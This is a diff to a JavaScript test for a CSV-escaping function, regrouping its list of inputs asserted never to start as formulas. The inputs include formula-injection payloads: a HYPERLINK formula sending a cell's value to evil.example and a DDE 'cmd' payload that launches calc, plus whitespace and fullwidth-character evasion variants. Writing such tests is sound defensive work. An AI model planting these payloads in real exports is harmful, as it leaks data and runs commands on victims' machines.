@@ -14,21 +14,9 @@ describe('a CSV cell', () => {
   });
 
   it.each([
-    '=1+1',
-    '=HYPERLINK("https://evil.example?"&A1,"Open")',
-    '+44 1632 960100',
-    '-2+3+cmd|" /C calc"!A0',
-    '@SUM(A1:A9)',
-    ' =1+1',
-    '\u00a0=1+1',
-    '\t=1+1',
-    '\r=1+1',
-    '\nplain',
-    '\ufeff=1+1',
-    '＝1+1',
-    '＋1',
-    '－1',
-    '＠SUM(A1)',
+    ...['=1+1', '=HYPERLINK("https://evil.example?"&A1,"Open")', '+44 1632 960100'],
+    ...['-2+3+cmd|" /C calc"!A0', '@SUM(A1:A9)', ' =1+1', '\u00a0=1+1', '\t=1+1', '\r=1+1', '\nplain'],
+    ...['\ufeff=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
   ])('never starts as a formula: %j', (value) => {
     expect(csvCell(value)).toBe(`"'${value.replaceAll('"', '""')}"`);
   });
